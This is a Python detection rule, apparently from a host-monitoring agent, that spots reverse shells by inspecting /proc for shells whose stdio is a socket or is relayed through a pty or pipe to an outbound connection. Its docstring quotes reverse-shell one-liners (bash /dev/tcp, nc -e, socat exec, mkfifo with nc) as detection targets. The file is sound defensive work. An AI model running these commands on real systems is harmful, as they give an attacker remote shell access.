"""reverse_shell: a shell driven over a network connection.

Two shapes (docs/detections-reverse_shell.md):

* socket on stdio: the shell's stdin or stdout *is* a connected TCP/UDP socket
  (``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``nc -e /bin/sh``);
* relayed: the shell's terminal (/dev/pts/N) or pipe is held, at the other end, by an
  ancestor (or, for a pipe, a sibling) that owns an outbound connection
  (``socat exec:'sh -i',pty tcp:HOST:PORT``, ``python -c 'pty.spawn(...)'`` after a connect,
  ``mkfifo f; sh -i <f | nc HOST PORT >f``), and no known terminal server (sshd, tmux, a
  container runtime, ...) stands between them.

The trigger is cheap: an EXEC process event whose binary (or comm) is a shell. Only then does
the rule read /proc on the pipeline thread (otelpeers.detect.shellprobe: three readlinks for
the shell's streams, one stat per ancestor, the fds of a process that owns an open
connection), which is acceptable because shell execs are rare; it is rate-limited
(max_inspections_per_s) and every read is counted.

Order of events: socat may fork the shell before it connects, and a connection is known to
the agent only once announced (TCP_OPEN, up to kernel.stats_interval_s later). So the
processes around a recent shell are *watched* for recheck_s: when one of them shows up
owning an open connection (a progress snapshot), the shell is examined again, in that
round, so the detection carries that connection's span. A shell that itself connects later
(``exec 0<>/dev/tcp/...`` inside it) is examined when its own connection shows up.

Live only: /proc describes this host now. Exec events older than max_event_age_s (compared
with the host clock: recordings, a stalled pipeline) are not examined, and counted.
"""

from __future__ import annotations

import os
import time
from collections import OrderedDict, deque
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, replace
from typing import ClassVar

from otelpeers.detect.engine import Allow, Finding, Rule, RuleContext
from otelpeers.detect.model import Actor, EvidenceKind, EvidenceRef, Peer, Severity
from otelpeers.detect.rules import meta
from otelpeers.detect.settings import ReverseShellRule, RuleBase
from otelpeers.detect.shellprobe import Conn, Fd, ProcProbe
from otelpeers.events import Direction, Kind, ProcessEvent
from otelpeers.flows import FlowRecord

NS = 1_000_000_000
COMM_LEN = 15  # the kernel's comm: names longer than this are compared cut
MAX_OPEN_PER_PROCESS = 16  # open connections indexed per process
MAX_PTMX_PER_PROCESS = 8  # pseudo-terminal masters whose index is read per process
MAX_RELAY_SOCKETS = 1  # network connections a relay holds (socat, nc, pty.spawn: one)


@dataclass(slots=True)
class _Shell:
    actor: Actor
    pid: int
    name: str
    exec_ns: int
    deadline_ns: int  # watched processes around it are examined until then
    stdio: tuple[str, ...]  # kinds of fds 0, 1, 2
    pts: frozenset[int]
    pipes: frozenset[int]
    around: tuple[tuple[int, str, str], ...]  # (pid, name, relation) of watched processes
    fired: bool = False


class ReverseShell(Rule):
    meta = meta.REVERSE_SHELL
    settings_type = ReverseShellRule
    takes_process = True
    takes_progress = True
    takes_flows = True
    proc_root: ClassVar[str] = "/proc"  # tests point this at a fake tree

    def __init__(self, settings: RuleBase, ctx: RuleContext) -> None:
        super().__init__(settings, ctx)
        s: ReverseShellRule = settings  # type: ignore[assignment]
        self.s = s
        self.probe = ProcProbe(self.proc_root, max_fds=s.max_fds)
        self._shell_names = frozenset(s.shells) | frozenset(n[:COMM_LEN] for n in s.shells)
        self._multicall = frozenset(s.multicall_binaries)
        self._servers = frozenset(n[:COMM_LEN] for n in s.terminal_servers) | frozenset(
            s.terminal_servers)
        self._allow = Allow(ctx.config.allow, s.allow)
        self._shells = ctx.bounded("reverse_shell.shells", s.max_shells)
        # pid of a process around a recent shell -> pids of the shells it may relay
        self._watch = ctx.bounded("reverse_shell.watch", s.max_shells * 4)
        self._expiry: deque[tuple[int, int]] = deque(maxlen=s.max_shells * 2)
        # pid -> its open connections the agent knows (flow id -> progress snapshot)
        self._open = ctx.bounded("reverse_shell.open_flows", max(4 * s.max_shells, 16_384))
        self._tokens = s.max_inspections_per_s
        self._tokens_ns = 0
        self.stats = {"shell_execs": 0, "examined": 0, "not_live": 0, "vanished": 0,
                      "rate_limited": 0, "rechecks": 0, "bridge_checks": 0,
                      "socket_stdio": 0, "relayed": 0, "not_relay": 0, "allowed": 0}

    # ---- the host clock, only to know whether /proc can describe an event ----------------
    def host_now_ns(self) -> int:
        return time.time_ns()

    # ---- inputs ------------------------------------------------------------------------
    def on_process(self, actor: Actor, ev: ProcessEvent) -> Iterable[Finding]:
        if ev.kind == Kind.EXIT:
            self._shells.pop(ev.tgid, None)
            return ()
        if ev.kind != Kind.EXEC:
            return ()
        name = os.path.basename(ev.path) or ev.comm
        multicall = name in self._multicall or ev.comm in self._multicall
        if not (multicall or name in self._shell_names or ev.comm in self._shell_names):
            return ()
        # Only the live agent may look at this host's /proc, and only for fresh execs.
        if not self.ctx.live or abs(self.host_now_ns() - ev.time_ns) > self.s.max_event_age_s * NS:
            self.stats["not_live"] += 1
            return ()
        if multicall:
            argv = self.probe.argv(ev.tgid)
            words = [os.path.basename(argv[0])] if argv else []
            words += list(argv[1:2])
            shell = next((w for w in words if w in self._shell_names), None)
            if shell is None:
                return ()
            name = f"{name} {shell}"
        self.stats["shell_execs"] += 1
        if not self._spend(ev.time_ns):
            return ()
        return self._examine_exec(actor, ev, name)

    def on_progress(self, actor: Actor, flow: FlowRecord) -> Iterable[Finding]:
        o = flow.owner
        if o is None:
            return ()
        conns = self._open.get(o.tgid)
        if conns is None:
            conns = OrderedDict()
            self._open.put(o.tgid, conns)
        new = flow.flow_id not in conns
        conns[flow.flow_id] = flow
        conns.move_to_end(flow.flow_id)
        while len(conns) > MAX_OPEN_PER_PROCESS:
            conns.popitem(last=False)
        if not new:
            return ()
        out: list[Finding] = []
        shell = self._shells.get(o.tgid)
        if shell is not None and not shell.fired and self._spend(flow.end_ns):
            # The shell itself connected after its exec (exec 0<>/dev/tcp/... inside it).
            self.stats["rechecks"] += 1
            out.extend(self._direct(shell, flow.end_ns))
        watchers = self._watch.get(o.tgid)
        if watchers and flow.direction != Direction.INBOUND:
            for spid in list(watchers):
                sh = self._shells.get(spid)
                if sh is None or sh.fired or flow.end_ns > sh.deadline_ns:
                    watchers.discard(spid)
                    continue
                if not self._spend(flow.end_ns):
                    break
                self.stats["rechecks"] += 1
                rel = next((r for p, _, r in sh.around if p == o.tgid), "ancestor")
                f = self._bridge(sh, o.tgid, o.comm, rel, flow.end_ns)
                watchers.discard(spid)  # examined with its connection: once is enough
                if f is not None:
                    out.append(f)
        return out

    def on_flow(self, actor: Actor, flow: FlowRecord) -> Iterable[Finding]:
        o = flow.owner
        if o is not None:
            conns = self._open.get(o.tgid)
            if conns is not None:
                conns.pop(flow.flow_id, None)
                if not conns:
                    self._open.pop(o.tgid, None)
        return ()

    def tick(self, now_ns: int) -> Iterable[Finding]:
        while self._expiry and self._expiry[0][0] < now_ns:
            _, spid = self._expiry.popleft()
            sh = self._shells.get(spid)
            for pid, _, _ in sh.around if sh is not None else ():
                w = self._watch.get(pid)
                if w is not None:
                    w.discard(spid)
                    if not w:
                        self._watch.pop(pid, None)
        return ()

    def counters(self) -> Mapping[str, int]:
        out = dict(self.stats)
        out.update({f"proc_{k}": v for k, v in self.probe.stats.items()})
        return out

    # ---- examination ---------------------------------------------------------------------
    def _spend(self, t_ns: int) -> bool:
        """Token bucket in event time: at most max_inspections_per_s examinations."""
        rate = self.s.max_inspections_per_s
        if t_ns > self._tokens_ns:
            self._tokens = min(max(rate, 1.0), self._tokens + (t_ns - self._tokens_ns) / NS * rate)
            self._tokens_ns = t_ns
        if self._tokens < 1:
            self.stats["rate_limited"] += 1
            return False
        self._tokens -= 1
        return True

    def _examine_exec(self, actor: Actor, ev: ProcessEvent, name: str) -> list[Finding]:
        pid = ev.tgid
        st = self.probe.stat(pid)
        if st is None or st[0] != ev.comm[:COMM_LEN]:
            self.stats["vanished"] += 1  # gone, or already another program
            return []
        self.stats["examined"] += 1
        std = self.probe.std_fds(pid)
        kinds = {f.fd: f.kind for f in std}
        shell = _Shell(
            actor=replace(actor, pid=pid), pid=pid, name=name, exec_ns=ev.time_ns,
            deadline_ns=ev.time_ns + int(self.s.recheck_s * NS),
            stdio=tuple(kinds.get(fd, "closed") for fd in (0, 1, 2)),
            pts=frozenset(f.ident for f in std if f.kind == "pts" and f.fd in (0, 1)),
            pipes=frozenset(f.ident for f in std if f.kind == "pipe" and f.fd in (0, 1)),
            around=())
        self._shells.put(pid, shell)
        found = self._direct(shell, ev.time_ns, std)
        if found or not (shell.pts or shell.pipes):
            return found
        shell.around = self._around(pid, st[1], bool(shell.pipes))
        out: list[Finding] = []
        for apid, aname, rel in shell.around:
            known = self._open.get(apid)
            if known and any(r.direction != Direction.INBOUND for r in known.values()):
                # It owns a connection the agent already knows: examine it now.
                f = self._bridge(shell, apid, aname, rel, ev.time_ns)
                if f is not None:
                    out.append(f)
                    break
                continue
            w = self._watch.get(apid)
            if w is None:
                w = set()
                self._watch.put(apid, w)
            if len(w) < 64:
                w.add(pid)
        if not out and shell.around:
            self._expiry.append((shell.deadline_ns, pid))
        return out

    def _around(self, pid: int, ppid: int, pipes: bool) -> tuple[tuple[int, str, str], ...]:
        """Ancestors up to max_depth (stopping at a terminal server), then for a pipe the
        parent's other children: the processes that could relay the shell's streams."""
        out: list[tuple[int, str, str]] = []
        cur, depth = ppid, 0
        seen = {pid}
        while cur > 1 and depth < self.s.max_depth and cur not in seen:
            seen.add(cur)
            st = self.probe.stat(cur)
            if st is None:
                break
            comm, parent = st
            if comm in self._servers:
                break
            out.append((cur, comm, "parent" if depth == 0 else "ancestor"))
            cur, depth = parent, depth + 1
        if pipes and ppid > 1 and out and out[0][0] == ppid:
            for child in self.probe.children(ppid, self.s.max_siblings + 1):
                if child in seen:
                    continue
                st = self.probe.stat(child)
                if st is not None and st[0] not in self._servers:
                    out.append((child, st[0], "sibling"))
        return tuple(out)

    def _direct(self, shell: _Shell, t_ns: int, std: tuple[Fd, ...] | None = None
                ) -> list[Finding]:
        """The shell's stdin/stdout is a connected network socket."""
        if std is None:
            std = self.probe.std_fds(shell.pid)
            shell.stdio = tuple(next((f.kind for f in std if f.fd == fd), "closed")
                                for fd in (0, 1, 2))
        socks = [f for f in std if f.kind == "socket" and f.fd in (0, 1)]
        if not socks:
            return []
        for conn in self.probe.connections(shell.pid, socks, limit=2)[0]:
            direction = self._direction(shell.pid, conn)
            if direction == "inbound" and not self.s.bind_shells:
                continue
            if self._allowed(shell, conn):
                continue
            holder_pid, holder_name, rel = self._holder(shell, conn)
            stdin = any(f.fd == 0 and f.ident == conn.inode for f in socks)
            score = (0.95 if stdin else 0.75) - (0.15 if direction == "inbound" else 0.0)
            shell.fired = True
            self.stats["socket_stdio"] += 1
            what = "stdin and stdout" if stdin and any(
                f.fd == 1 and f.ident == conn.inode for f in socks) else (
                "stdin" if stdin else "stdout")
            summary = (f"{shell.name} (pid {shell.pid}) has its {what} on a {direction} "
                       f"{conn.transport} connection with {conn.peer_addr}:{conn.peer_port}"
                       + ("" if rel == "self" else
                          f", a socket {holder_name} (pid {holder_pid}) also holds"))
            return [self._finding(shell, conn, t_ns, score, summary, "socket_stdio",
                                  holder_pid, holder_name, rel, direction)]
        return []

    def _bridge(self, shell: _Shell, pid: int, name: str, rel: str, t_ns: int
                ) -> Finding | None:
        """pid holds the other end of the shell's terminal or pipe and an outbound
        connection: it relays the shell to the network."""
        self.stats["bridge_checks"] += 1
        fds = self.probe.fds(pid)
        via = None
        ptmx = 0
        for f in fds:
            if f.kind == "pipe" and f.ident in shell.pipes:
                via = "pipe"
                break
            if f.kind == "ptmx" and shell.pts and ptmx < MAX_PTMX_PER_PROCESS:
                ptmx += 1
                if self.probe.pty_index(pid, f.fd) in shell.pts:
                    via = "terminal"
                    break
        if via is None:
            return None
        socks = [f for f in fds if f.kind == "socket"]
        conns, listening = self.probe.connections(pid, socks, limit=MAX_RELAY_SOCKETS + 1)
        if listening or len(conns) != 1:
            # A relay holds one connection and serves nothing; a service that runs shell
            # commands with pipes (and has listeners, or several connections) is not one.
            self.stats["not_relay"] += 1
            return None
        conn = conns[0]
        direction = self._direction(pid, conn)
        if direction == "inbound" or self._allowed(shell, conn):
            return None  # a web terminal (accepted connection) is not a reverse shell
        shell.fired = True
        self.stats["relayed"] += 1
        where = (f"terminal /dev/pts/{min(shell.pts)}" if via == "terminal"
                 else "stdin/stdout pipe")
        summary = (f"{shell.name} (pid {shell.pid}) is relayed to the network: its {where} "
                   f"is held by its {rel} {name} (pid {pid}), whose only connection is "
                   f"{direction} {conn.transport} to {conn.peer_addr}:{conn.peer_port}")
        score = 0.9 if via == "terminal" else 0.85
        return self._finding(shell, conn, t_ns, score, summary,
                             "terminal_relay" if via == "terminal" else "pipe_relay",
                             pid, name, rel, direction)

    # ---- helpers -------------------------------------------------------------------------
    def _allowed(self, shell: _Shell, conn: Conn) -> bool:
        if self._allow.actor(shell.actor) or self._allow.address(conn.peer_addr):
            self.stats["allowed"] += 1
            return True
        return False

    def _known_flow(self, pid: int, conn: Conn) -> FlowRecord | None:
        conns = self._open.get(pid)
        if not conns:
            return None
        fid = conn.flow_id
        if fid is not None and fid in conns:
            return conns[fid]
        for r in conns.values():
            if (r.peer_addr == conn.peer_addr and r.peer_port == conn.peer_port
                    and r.local_port == conn.local_port):
                return r
        return None

    def _direction(self, pid: int, conn: Conn) -> str:
        r = self._known_flow(pid, conn)
        if r is not None and r.direction != Direction.UNKNOWN:
            return "outbound" if r.direction == Direction.OUTBOUND else "inbound"
        accepted = self.probe.accepted(pid, conn)
        return "unknown" if accepted is None else ("inbound" if accepted else "outbound")

    def _holder(self, shell: _Shell, conn: Conn) -> tuple[int, str, str]:
        """The process that holds the shell's socket: its parent when the parent has the
        same socket open (nc -e), else the shell itself (bash's /dev/tcp)."""
        st = self.probe.stat(shell.pid)
        if st is not None and st[1] > 1:
            parent = st[1]
            if any(f.kind == "socket" and f.ident == conn.inode
                   for f in self.probe.fds(parent)):
                pst = self.probe.stat(parent)
                return parent, pst[0] if pst else "?", "parent"
        return shell.pid, shell.name, "self"

    def _finding(self, shell: _Shell, conn: Conn, t_ns: int, score: float, summary: str,
                 mode: str, holder_pid: int, holder_name: str, rel: str, direction: str
                 ) -> Finding:
        flow = None
        for pid in (holder_pid, shell.pid):
            flow = self._known_flow(pid, conn)
            if flow is not None:
                break
        fid = conn.flow_id or (flow.flow_id if flow is not None else None)
        evidence: dict[str, str | int | float | bool | tuple[str, ...]] = {
            "mode": mode, "shell_pid": shell.pid, "shell": shell.name,
            "stdio": shell.stdio, "holder_pid": holder_pid, "holder": holder_name,
            "holder_relation": rel, "transport": conn.transport, "direction": direction,
            "local_port": conn.local_port,
            "seconds_after_exec": round(max(0, t_ns - shell.exec_ns) / NS, 3),
        }
        if fid is not None:
            evidence["flow_id"] = fid
        if flow is not None and flow.owner is not None:
            evidence["connection_owner_pid"] = flow.owner.tgid
            evidence["connection_owner"] = flow.owner.comm
        if shell.around:
            evidence["ancestry"] = tuple(f"{n}({p})" for p, n, r in shell.around
                                         if r != "sibling")
        return Finding(
            actor=shell.actor, time_ns=max(t_ns, shell.exec_ns), score=score, summary=summary,
            peer=Peer(conn.peer_addr, conn.peer_port), evidence=evidence,
            evidence_span=EvidenceRef(EvidenceKind.FLOW, fid) if fid else None,
            severity=Severity.HIGH if direction == "inbound" else None)
